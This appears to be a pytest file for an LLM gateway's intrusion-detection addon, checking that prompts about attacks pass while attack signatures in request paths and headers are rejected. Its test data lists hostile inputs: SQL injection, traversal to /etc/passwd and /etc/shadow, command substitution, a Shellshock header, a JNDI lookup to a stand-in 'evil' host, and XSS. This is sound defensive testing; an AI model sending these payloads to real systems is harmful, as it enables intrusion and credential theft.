"""intrusion: signatures in the request line and headers; prompts are never inspected."""

from __future__ import annotations

from pathlib import Path

import pytest

from flm_gateway.addons.intrusion import Intrusion
from flm_gateway.security.events import events_of
from tests.support.flows import error_of
from tests.support.security import flow, loaded, run_hooks

PROMPTS = [
    "Explain this query: SELECT name FROM users WHERE id = 1 UNION SELECT password FROM admins;",
    "Why is ' OR '1'='1 a classic SQL injection? Also what does DROP TABLE students; -- do?",
    "My script reads ../../etc/passwd and /proc/self/environ, is that a path traversal?",
    "In bash, what does `cat /etc/hosts | sh` or $(whoami) do? And ${jndi:ldap://x}?",
    "Write a regex for C:\\Windows\\System32 paths and <script>alert(1)</script> escaping.",
]


@pytest.mark.parametrize("prompt", PROMPTS)
async def test_prompts_about_attacks_pass(tmp_path: Path, prompt: str) -> None:
    config = loaded("", tmp_path)
    addon = Intrusion()
    addon.apply_config(config)
    body = {"model": "tiny-a", "messages": [{"role": "user", "content": prompt}]}
    target = flow(
        config,
        "POST",
        "/v1/chat/completions",
        body=body,
        headers={
            "user-agent": "OpenAI/Python 1.99.0",
            "content-type": "application/json",
            "authorization": "Bearer ' or 1=1 --",
        },
    )
    await run_hooks([addon], target)
    assert target.response is None and events_of(target) == []


@pytest.mark.parametrize(
    ("path", "headers", "rule", "status"),
    [
        ("/v1/%2e%2e/%2e%2e/etc/passwd", {}, "TRV-002", 403),
        ("/v1/models/../../etc/passwd", {}, "TRV-001", 403),
        ("/v1/models?id=1%20UNION%20SELECT%20password%20FROM%20users", {}, "SQL-001", 403),
        ("/v1/models?q=x'%20or%20'1'='1", {}, "SQL-002", 403),
        ("/v1/models?cmd=;cat%20/etc/shadow", {}, "TRV-003", 403),
        ("/v1/models?x=$(id)", {}, "CMD-002", 403),
        ("/v1/models", {"user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, "SCN-001", 403),
        ("/v1/models", {"x-api-version": "() { :; }; /bin/bash -c 'id'"}, "CMD-003", 403),
        ("/v1/models", {"referer": "${jndi:ldap://evil/a}"}, "CMD-004", 403),
        ("/v1/models?q=<script>alert(1)</script>", {}, "XSS-001", 403),
        ("/v1/models%00.json", {}, "TRV-004", 403),
    ],
)
async def test_attacks_are_rejected(
    tmp_path: Path, path: str, headers: dict[str, str], rule: str, status: int
) -> None:
    config = loaded("", tmp_path)
    addon = Intrusion()
    addon.apply_config(config)
    target = flow(config, path=path, headers=headers)
    await run_hooks([addon], target, ("requestheaders",))
    assert rule in target.metadata["flm.intrusion.rules"]
    code, error = error_of(target)
    assert (code, error["code"]) == (status, "request_rejected")
    event = next(e for e in events_of(target) if e.details["rule"] == rule)
    assert "etc/shadow" not in repr(event.details.get("location"))
    assert "jndi" not in repr(event.details)  # the matched value is never recorded


async def test_actions_by_severity_and_disabled_rules(tmp_path: Path) -> None:
    config = loaded(
        """
intrusion:
  actions: {low: log, medium: log, high: reject, critical: block}
  reject_status: 400
  disabled_rules: [SCN-001]
""",
        tmp_path,
    )
    addon = Intrusion()
    addon.apply_config(config)
    logged = flow(config, path="/index.php")  # SCN-002, low: logged, forwarded
    await run_hooks([addon], logged, ("requestheaders",))
    assert logged.response is None and events_of(logged)[0].offence is None
    rejected = flow(config, path="/v1/models?id=1 union select 1")
    await run_hooks([addon], rejected, ("requestheaders",))
    assert error_of(rejected)[0] == 400 and events_of(rejected)[0].offence is None
    blocked = flow(config, path="/v1/models?f=/etc/passwd")
    await run_hooks([addon], blocked, ("requestheaders",))
    assert error_of(blocked)[0] == 400 and events_of(blocked)[0].offence == "intrusion"
    scanner = flow(config, headers={"user-agent": "sqlmap/1.0"})
    await run_hooks([addon], scanner, ("requestheaders",))
    assert scanner.response is None


async def test_off_switch_and_health(tmp_path: Path) -> None:
    config = loaded("intrusion: {enabled: false}", tmp_path)
    addon = Intrusion()
    addon.apply_config(config)
    target = flow(config, path="/v1/models?q=1 union select 2")
    await run_hooks([addon], target, ("requestheaders",))
    assert target.response is None
